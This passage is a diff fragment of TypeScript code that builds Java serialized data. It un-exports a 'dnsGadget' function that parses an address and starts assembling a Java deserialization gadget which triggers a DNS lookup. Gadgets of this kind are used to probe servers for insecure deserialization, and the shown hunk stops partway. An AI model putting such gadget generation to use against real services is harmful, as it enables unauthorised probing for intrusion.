@@ -21,7 +21,7 @@ const text = 'Ljava/lang/String;'
 /** The fourth thing of the stream that may be referred to: the name of a type, written once. */
 const again = `\u0071${int(0x007e0003)}`
 
-export function dnsGadget(address: Bytes): Bytes {
+function dnsGadget(address: Bytes): Bytes {
   const [, protocol = 'http', host = '', port = '', file = ''] = /^(?:([a-z]+):\/\/)?([^/:?#]*)(?::(\d{1,5}))?(.*)$/s.exec(address) ?? []
   if (host === '' || host.length > 0xffff || file.length > 0xffff) throw new EvaluationError('invalid_input', 'generate_java_gadget() needs an address with a host.')
   const url =
